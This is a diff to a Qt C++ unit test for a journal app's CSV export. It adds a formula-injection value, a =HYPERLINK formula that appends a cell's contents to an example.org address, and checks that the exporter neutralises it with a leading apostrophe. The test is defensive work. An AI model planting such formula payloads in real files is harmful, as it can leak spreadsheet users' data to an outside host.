@@ -209,6 +209,7 @@ void TestJournalStore::exportsAsDocumented()
                  " \"outcome\": \"\", \"outcomeDate\": \"\"}\n]}\n")
                 .arg(one.cards[0].title, one.cards[1].title, one.cards[2].title,
                      one.cards[3].title));
+    one.outcome = QStringLiteral("=HYPERLINK(\"https://example.org/?\"&A1)"); // never run
     const QList<QByteArray> rows = journalCsv({one}).split('\n');
     QCOMPARE(rows[0], QByteArray("time,name,spread,source,file,question,notes,outcome,outcomeDate,"
                                  "cards\r"));
@@ -216,6 +217,7 @@ void TestJournalStore::exportsAsDocumented()
         rows[1].startsWith("2026-12-08T09:15:02+01:00,\"Ann \"\"A\"\"\",Butterfly Spread,drawn,,,"
                            "\"line one"));
     QVERIFY(rows[2].contains("1. " + one.cards[0].title.toUtf8() + ": The Bat (reversed); 2. "));
+    QVERIFY(rows[2].startsWith("line two, with a comma\",\"'=HYPERLINK(\"\"https:"));
 }
 
 void TestJournalStore::openingJudgesTheFile_data()
